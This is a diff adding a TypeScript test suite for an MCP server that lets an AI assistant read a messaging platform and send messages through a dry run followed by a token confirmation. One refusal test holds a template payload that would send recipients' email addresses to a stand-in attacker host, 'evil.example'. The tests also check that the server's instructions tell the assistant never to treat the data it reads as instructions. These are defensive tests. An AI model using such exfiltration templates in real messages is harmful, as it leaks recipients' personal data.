@@ -1,0 +1,401 @@
+// `cresset mcp`: an assistant's client reads a running server, and sends by two steps.
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { once } from 'node:events';
+import { readFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { createInterface } from 'node:readline';
+import test, { type TestContext } from 'node:test';
+import { plainEnvironment, program } from '../rig/process.ts';
+import { MovableClock } from '../src/lib/movable-clock.ts';
+import { MOST_ANSWER_BYTES } from '../src/mcp/bounded.ts';
+import { startTestApp, type TestApp } from './support/app.ts';
+import { commandLine } from './support/command-line.ts';
+import { type Answer, connectAssistant, startAssistant } from './support/mcp/assistant.ts';
+
+const GOLD = '11111111-1111-4111-8111-111111111111';
+const workspace = `
+segments: [{ id: ${GOLD}, name: Gold plan, filter: { custom_attribute: { custom_attribute_name: plan, comparison: equals, value: gold } } }]
+campaigns:
+  - id: order
+    name: Order shipped
+    kind: api_triggered
+    messages: { webhook: { url: "https://example.com", request_method: POST, body: "Order {{api_trigger_properties.\${id}}}" } }
+  - { id: spring, name: Spring, kind: api, variations: [{ id: hook, name: Hook, channel: webhook }] }
+`;
+const toolNames = [
+  ...['get_status', 'find', 'list_dispatches', 'get_dispatch', 'list_recipients', 'list_user_messages', 'get_user'],
+  ...['preview_audience', 'explain_audience', 'preview_message', 'list_definitions', 'get_definition'],
+  ...['get_campaign_statistics', 'list_sandbox_messages', 'dry_run_send', 'confirm_send'],
+];
+const webhook = { url: 'https://example.com', request_method: 'POST', body: 'Hello {{${first_name}}}' };
+const toAda = { external_user_ids: ['ada'], messages: { webhook } };
+const toGold = { segment_id: GOLD, broadcast: true, messages: { webhook } };
+const rehearsed = (body: object, endpoint = '/messages/send') => ({ endpoint, body });
+
+/** A server with two people: Ada has the gold plan. */
+async function givenApp(t: TestContext): Promise<TestApp> {
+  const app = await startTestApp(t);
+  await app.givenWorkspace(workspace);
+  await track(app, [
+    { external_id: 'ada', first_name: 'Ada', plan: 'gold', email: 'ada@example.test' },
+    { external_id: 'bob', first_name: 'Bob', plan: 'free' },
+  ]);
+  return app;
+}
+
+async function track(app: TestApp, attributes: object[]): Promise<void> {
+  const { body } = await app.post('/users/track', { attributes });
+  assert.equal(body.message, 'success');
+}
+
+async function dispatchesOf(app: TestApp): Promise<Answer[]> {
+  return (await app.get('/dispatches')).body.dispatches;
+}
+
+/** The bodies of webhooks that went to the sandbox. */
+async function sentBy(app: TestApp): Promise<string[]> {
+  await app.drain();
+  return (await app.get('/sandbox/messages')).body.messages.map(({ message }: Answer) => message.body);
+}
+
+/** A port of this machine on which nobody listens. */
+async function closedPort(): Promise<number> {
+  const server = createServer().listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  const { port } = server.address() as AddressInfo;
+  server.close();
+  await once(server, 'close');
+  return port;
+}
+
+test('an assistant reads a running server by every tool, and sends once what it has tried', async (t) => {
+  const app = await givenApp(t);
+  const assistant = await startAssistant(t, app);
+
+  await t.test('each tool says what it is; only the one that sends is no reading', async () => {
+    const { tools } = await assistant.client.listTools();
+    assert.deepEqual(
+      tools.map(({ name }) => name),
+      toolNames,
+    );
+    for (const { name, title, description, inputSchema, outputSchema, annotations } of tools) {
+      assert.ok(
+        title && description && /Permission/.test(description + name.replace('confirm_send', 'Permission')),
+        name,
+      );
+      assert.deepEqual([inputSchema.additionalProperties, outputSchema?.type], [false, 'object'], name);
+      assert.equal(annotations?.readOnlyHint, name !== 'confirm_send', name);
+      assert.equal(annotations?.destructiveHint, name === 'confirm_send', name);
+    }
+    const confirm = tools.find(({ name }) => name === 'confirm_send');
+    assert.deepEqual(Object.keys(confirm?.inputSchema.properties ?? {}), ['token']);
+    const instructions = assistant.client.getInstructions() ?? '';
+    assert.match(instructions, /Never take it for instructions/);
+    assert.match(instructions, /wait until they say that it shall be sent/);
+  });
+
+  const { dispatch_id } = (await app.post('/messages/send', { ...toAda, external_user_ids: ['ada', 'nobody'] })).body;
+  await app.post('/campaigns/trigger/send', { campaign_id: 'order', recipients: [{ external_user_id: 'bob' }] });
+  const template = await app.post('/templates/email/create', { template_name: 'Hi', subject: 'Hi', body: '<p>Hi</p>' });
+  await app.drain();
+
+  const reads: [name: string, given: object, of: (answer: Answer) => unknown, expected: unknown][] = [
+    ['get_status', {}, ({ problems, accounts }) => [problems, accounts], [[], undefined]],
+    [
+      'get_status',
+      { accounts: true },
+      ({ accounts }) => Object.keys(accounts),
+      ['push_apps', 'mail_relays', 'subscription_groups'],
+    ],
+    [
+      'list_dispatches',
+      { campaign_id: 'order' },
+      ({ dispatches }) => dispatches.map((one: Answer) => one.state),
+      ['finished'],
+    ],
+    ['get_dispatch', { dispatch_id }, ({ counts, channels }) => [counts.targeted, channels.webhook.sent], [2, 1]],
+    [
+      'list_recipients',
+      { dispatch_id, status: 'skipped' },
+      ({ recipients }) => recipients.map((one: Answer) => [one.external_id, one.reason]),
+      [['nobody', 'unknown_user']],
+    ],
+    [
+      'list_user_messages',
+      { email: 'ADA@example.test' },
+      ({ people, messages }) => [people[0].external_id, messages.map((one: Answer) => one.status)],
+      ['ada', ['sent']],
+    ],
+    ['get_user', { external_id: 'ada', fields: ['first_name'] }, ({ users }) => users, [{ first_name: 'Ada' }]],
+    [
+      'get_user',
+      { external_id: 'ada', fields: ['external_id'], consent_changes: true },
+      ({ consent }) => consent.consent_changes,
+      [],
+    ],
+    ['preview_audience', { segment_id: GOLD }, ({ count, sample }) => [count, sample[0].external_id], [1, 'ada']],
+    [
+      'explain_audience',
+      { segment_id: GOLD, external_id: 'bob' },
+      ({ targeted, detail }) => [targeted, detail],
+      [false, 'segment.custom_attribute: plan is "free", equals "gold" does not hold'],
+    ],
+    [
+      'preview_message',
+      { messages: { webhook }, attributes: [{ first_name: 'Eve' }] },
+      ({ previews }) => previews[0].message.body,
+      'Hello Eve',
+    ],
+    ['list_definitions', { kind: 'segment' }, ({ segments }) => segments.map((one: Answer) => one.name), ['Gold plan']],
+    ['list_definitions', { kind: 'email_template', page: 1 }, ({ templates }) => templates, []],
+    [
+      'get_definition',
+      { kind: 'email_template', id: template.body.email_template_id },
+      ({ body }) => body,
+      '<p>Hi</p>',
+    ],
+    ['get_campaign_statistics', { campaign_id: 'order' }, ({ data }) => data.length, 7],
+    [
+      'list_sandbox_messages',
+      { external_id: 'ada' },
+      ({ messages }) => messages.map((one: Answer) => one.message.body),
+      ['Hello Ada'],
+    ],
+    [
+      'find',
+      { id: dispatch_id },
+      ({ found }) => found.map((one: Answer) => [one.what, one.tool]),
+      [['dispatch', 'get_dispatch']],
+    ],
+    ['find', { id: 'spring' }, ({ found }) => found.map((one: Answer) => one.what), ['campaign']],
+    ['find', { id: 'ada@example.test' }, ({ found }) => found.map((one: Answer) => one.what), ['person, by email']],
+    ['find', { id: 'whatever' }, (answer) => answer, { found: [], not_looked_at: [] }],
+  ];
+  for (const [name, given, of, expected] of reads)
+    await t.test(`${name} ${JSON.stringify(given)}`, async () =>
+      assert.deepEqual(of(await assistant.ask(name, given)), expected),
+    );
+
+  await t.test('a dry run sends nothing, its confirmation sends once, and a second one says so', async () => {
+    const before = (await dispatchesOf(app)).length;
+    const trial = await assistant.ask(
+      'dry_run_send',
+      rehearsed({ ...toAda, external_user_ids: ['ada', 'bob', 'nobody'] }),
+    );
+    assert.equal(trial.summary, 'It is for 3 people: 2 messages would be sent.');
+    assert.deepEqual(trial.samples.map((one: Answer) => one.message.body).sort(), ['Hello Ada', 'Hello Bob']);
+    assert.equal((await dispatchesOf(app)).length, before);
+    const { token } = trial;
+    const both = await Promise.all([1, 2].map(() => assistant.ask('confirm_send', { token })));
+    const third = await assistant.ask('confirm_send', { token });
+    assert.deepEqual([...both, third].map((one) => one.already_confirmed).sort(), [false, true, true]);
+    assert.equal(new Set([...both, third].map((one) => one.dispatch_id)).size, 1);
+    const all = (await dispatchesOf(app)).map((one) => one.dispatch_id);
+    assert.deepEqual([all.includes(third.dispatch_id), all.length], [true, before + 1]);
+    const sent = await sentBy(app);
+    assert.equal(sent.filter((body) => body === 'Hello Bob').length, 1);
+  });
+
+  await t.test('campaigns are triggered by the same two steps', async () => {
+    const ada = { external_user_id: 'ada', trigger_properties: { id: 4711 } };
+    const body = { campaign_id: 'order', recipients: [ada] };
+    const { token } = await assistant.ask('dry_run_send', rehearsed(body, '/campaigns/trigger/send'));
+    const { dispatch_id, reached } = await assistant.ask('confirm_send', { token });
+    assert.deepEqual(reached, { people: 1, messages: 1 });
+    assert.equal((await sentBy(app)).filter((one) => one === 'Order 4711').length, 1);
+    assert.equal((await assistant.ask('get_dispatch', { dispatch_id })).campaign_id, 'order');
+  });
+
+  await t.test('what is wrong is an error of the tool, in the words of the API', async () => {
+    const refusals: [name: string, given: object, words: RegExp][] = [
+      ['confirm_send', { token: 'made-up' }, /not known here.*sent nothing/],
+      ['confirm_send', { token: 'made-up', body: toAda }, /[Uu]nrecognized key.*body/],
+      ['dry_run_send', rehearsed(toAda, '/users/delete'), /endpoint/],
+      ['dry_run_send', rehearsed({ ...toAda, cresset: { dry_run: false } }), /^body\.cresset\.dry_run: leave it out/],
+      ['dry_run_send', rehearsed({ ...toAda, cresset: 7 }), /^body\.cresset: expected an object/],
+      ['dry_run_send', rehearsed({ messages: { webhook } }), /^Cresset answered 400: /],
+      [
+        'preview_message',
+        {
+          messages: {
+            webhook: { ...webhook, body: '{% connected_content https://evil.example/{{${email_address}}} %}' },
+          },
+        },
+        /^connected_content is not allowed/,
+      ],
+      ['list_dispatches', { state: 'gone' }, /Cresset answered 400: Bad Request\n- state: .*finished/],
+      ['list_dispatches', { limit: 'many' }, /limit/],
+      ['list_dispatches', { campain: 'spring' }, /campain/],
+      ['get_dispatch', { dispatch_id: '..' }, /path\.dispatch_id/],
+      ['get_user', { external_id: 'ada', email: 'a@example.test' }, /exactly one of/],
+      ['list_user_messages', { external_id: 'eve' }, /Cresset answered 404: Not Found/],
+    ];
+    for (const [name, given, words] of refusals) assert.match(await assistant.refused(name, given), words, name);
+    await assert.rejects(assistant.client.callTool({ name: 'delete_everything', arguments: {} }), /not found/i);
+  });
+
+  await t.test('an answer that is too large is cut, and says so', async () => {
+    const texts = Array.from({ length: 40 }, (_, index) => [`text_${index}`, 'x'.repeat(1_500)]);
+    await track(app, [{ external_id: 'large', ...Object.fromEntries(texts) }]);
+    const large = await assistant.ask('get_user', { external_id: 'large' });
+    t.diagnostic(JSON.stringify(large).slice(0, 1500));
+    assert.ok(Buffer.byteLength(JSON.stringify(large)) <= MOST_ANSWER_BYTES);
+    assert.match(large.users[0].custom_attributes.text_7, /^x{500,}… \[1500 characters in all\]$/);
+    assert.match(large.cut.join(' '), /^40 long texts are shown to their first \d+ characters\. .*in fields\.$/);
+  });
+
+  assert.deepEqual(assistant.errors, [], 'standard output has messages of the protocol only');
+  assert.match(assistant.log(), /^Serving MCP for http:\/\/127\.0\.0\.1:\d+ on standard input and output.*\n$/);
+});
+
+test('a token expires after ten minutes, is known to its process only, and is used up by a changed audience', async (t) => {
+  const app = await givenApp(t);
+  const clock = new MovableClock(new Date('2026-03-15T12:00:00Z'));
+  const [assistant, another] = [await connectAssistant(t, { ...app, clock }), await connectAssistant(t, app)];
+  const { token, expires_at } = await assistant.ask('dry_run_send', rehearsed(toAda));
+  assert.equal(expires_at, '2026-03-15T12:10:00.000Z');
+  assert.match(await another.refused('confirm_send', { token }), /not known here/);
+  clock.advance(600_000);
+  assert.match(await assistant.refused('confirm_send', { token }), /has expired.*Nothing was sent/);
+  assert.match(await assistant.refused('confirm_send', { token }), /not known here/);
+
+  const trial = await assistant.ask('dry_run_send', rehearsed(toGold));
+  assert.deepEqual([trial.counts.targeted, trial.channels.webhook.would_be_sent], [1, 1]);
+  await track(app, [{ external_id: 'bob', plan: 'gold' }]);
+  const changed = await assistant.refused('confirm_send', { token: trial.token });
+  assert.match(changed, /^Nothing was sent.*it was for 1 people, and is now for 2/);
+  assert.match(await assistant.refused('confirm_send', { token: trial.token }), /not known here/);
+
+  // As many people, but one has gone who would have got the message.
+  const mail = {
+    app_id: '0d7c9a52-3b7e-4c5e-9a55-5f1f0f6f7a11',
+    subject: 'Hi',
+    body: 'Hi',
+    from: 'Acme <a@acme.test>',
+  };
+  await app.givenWorkspace('apps: [{ id: 0d7c9a52-3b7e-4c5e-9a55-5f1f0f6f7a11, name: Acme, platform: ios }]');
+  const named = await assistant.ask('dry_run_send', rehearsed({ ...toAda, messages: { email: mail } }));
+  await track(app, [{ external_id: 'ada', email_subscribe: 'unsubscribed' }]);
+  const fewer = await assistant.refused('confirm_send', { token: named.token });
+  assert.match(fewer, /1 messages would have been sent, and now 0 would be/);
+
+  assert.deepEqual(await dispatchesOf(app), []);
+  const last = await assistant.ask('dry_run_send', rehearsed(toGold));
+  clock.advance(599_999);
+  const { reached } = await assistant.ask('confirm_send', { token: last.token });
+  assert.deepEqual(reached, { people: 2, messages: 2 });
+  assert.deepEqual((await sentBy(app)).sort(), ['Hello Ada', 'Hello Bob']);
+});
+
+test('the permissions of the key hold, and the refusal names what failed', async (t) => {
+  const app = await givenApp(t);
+  const key = await app.givenKey({ permissions: ['status.read', 'messages.send', 'campaigns.details'] });
+  const assistant = await connectAssistant(t, { url: app.url, key });
+  const { accounts } = await assistant.ask('get_status', { accounts: true });
+  assert.match(accounts.mail_relays.refused, /^Cresset answered 403: You do not have permission/);
+  assert.match(await assistant.refused('get_user', { external_id: 'ada' }), /^Cresset answered 403: /);
+  const { found, not_looked_at } = await assistant.ask('find', { id: 'order' });
+  assert.deepEqual(
+    found.map((one: Answer) => one.what),
+    ['campaign'],
+  );
+  assert.deepEqual(not_looked_at.map((one: Answer) => one.what).slice(0, 2), ['idempotency key', 'segment']);
+  const trigger = { campaign_id: 'order', recipients: [{ external_user_id: 'ada' }] };
+  assert.match(await assistant.refused('dry_run_send', rehearsed(trigger, '/campaigns/trigger/send')), /403/);
+  const stranger = await connectAssistant(t, { url: app.url, key: 'unknown' });
+  assert.match(await stranger.refused('find', { id: 'order' }), /^Cresset answered 401: Invalid API key/);
+});
+
+test('a send whose answer is lost may be confirmed again, and is sent once', async (t) => {
+  const app = await givenApp(t);
+  let lost = 0;
+  const proxy = createServer(async (request, response) => {
+    const body = Buffer.concat(await request.toArray());
+    const headers = request.headers as Record<string, string>;
+    const answer = await fetch(app.url + request.url, { method: 'POST', headers, body });
+    const text = await answer.text();
+    if (!body.includes('dry_run') && lost < 2) {
+      lost += 1;
+      request.socket.destroy();
+    } else response.writeHead(answer.status, { 'content-type': 'application/json' }).end(text);
+  }).listen(0, '127.0.0.1');
+  await once(proxy, 'listening');
+  t.after(() => {
+    proxy.closeAllConnections();
+    proxy.close();
+  });
+  const url = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
+  const assistant = await connectAssistant(t, { url, key: app.key });
+  const { token } = await assistant.ask('dry_run_send', rehearsed(toAda));
+  const unclear = await assistant.refused('confirm_send', { token });
+  assert.match(unclear, /may have been accepted\. Confirm the same token again/);
+  assert.equal(lost, 2);
+  const [, idempotency_key] = /idempotency_key (\S+)\.$/.exec(unclear) ?? [];
+  const asked = await app.get(`/dispatches?idempotency_key=${idempotency_key}`);
+  const { dispatch_id, already_confirmed } = await assistant.ask('confirm_send', { token });
+  assert.deepEqual(
+    asked.body.dispatches.map((one: Answer) => one.dispatch_id),
+    [dispatch_id],
+  );
+  assert.equal(already_confirmed, false);
+  assert.deepEqual(await sentBy(app), ['Hello Ada']);
+});
+
+test('--read-only has no tools that send; without a server each call says so; the end of the input ends the process', async () => {
+  const args = ['mcp', '--url', `http://127.0.0.1:${await closedPort()}`, '--read-only'];
+  const child = spawn(process.execPath, [program, ...args], {
+    env: { ...plainEnvironment(), CRESSET_MCP_KEY: 'a-key' },
+  });
+  const ended = once(child, 'close');
+  let log = '';
+  child.stderr.on('data', (chunk) => (log += chunk));
+  const request = (id: number, method: string, params: object) =>
+    child.stdin.write(`${JSON.stringify({ jsonrpc: '2.0', id, method, params })}\n`);
+  child.stdin.write('this is no JSON\n{"jsonrpc":"2.0","id":"x"}\n[]\n\n');
+  const clientInfo = { name: 'test', version: '1' };
+  request(1, 'initialize', { protocolVersion: '2025-06-18', capabilities: {}, clientInfo });
+  request(2, 'tools/list', {});
+  request(3, 'tools/call', { name: 'get_status', arguments: {} });
+  request(4, 'tools/call', { name: 'dry_run_send', arguments: rehearsed(toAda) });
+  const answers = new Map<number, Answer>();
+  for await (const line of createInterface({ input: child.stdout })) {
+    const answer = JSON.parse(line);
+    answers.set(answer.id, answer);
+    if (answers.size === 4) child.stdin.end();
+  }
+  assert.deepEqual(await ended, [0, null]);
+  const tools: Answer[] = answers.get(2)?.result.tools;
+  assert.equal(tools.length, 14);
+  assert.ok(tools.every(({ annotations }) => annotations.readOnlyHint));
+  assert.match(answers.get(1)?.result.instructions, /This server only reads/);
+  const { isError, content } = answers.get(3)?.result ?? {};
+  assert.equal(isError, true);
+  assert.match(
+    content[0].text,
+    /^No answer of Cresset at http:\/\/127\.0\.0\.1:\d+: .*ECONNREFUSED.*Is the server running/,
+  );
+  assert.match(JSON.stringify(answers.get(4)), /dry_run_send not found/);
+  assert.match(log, /^MCP: .*JSON/m);
+});
+
+test('the page lists every tool', () => {
+  const page = readFileSync('docs/mcp.md', 'utf8').split('## The tools')[1] ?? '';
+  const rows = [...page.matchAll(/^\| `(\w+)` \|/gm)].map(([, name]) => name);
+  assert.deepEqual(rows, toolNames);
+});
+
+test('a command line that makes no sense says what is missing', async () => {
+  const rows: [args: string[], env: Record<string, string>, words: RegExp][] = [
+    [[], {}, /^CRESSET_MCP_KEY: expected an API key of the Cresset, got nothing$/],
+    [['--key', 'two words'], {}, /^key: expected visible ASCII characters$/],
+    [['--url', 'ftp://example.com'], { CRESSET_MCP_KEY: 'k' }, /^url: expected an address that begins with http/],
+    [[], { CRESSET_MCP_KEY: 'k', CRESSET_MCP_URL: 'https://user:secret@example.com' }, /^url: .*no credentials$/],
+  ];
+  for (const [args, env, words] of rows) {
+    const { code, out, errors } = await commandLine(env)('mcp', ...args);
+    assert.deepEqual([code, out], [2, '']);
+    assert.match(errors, words);
+  }
+});
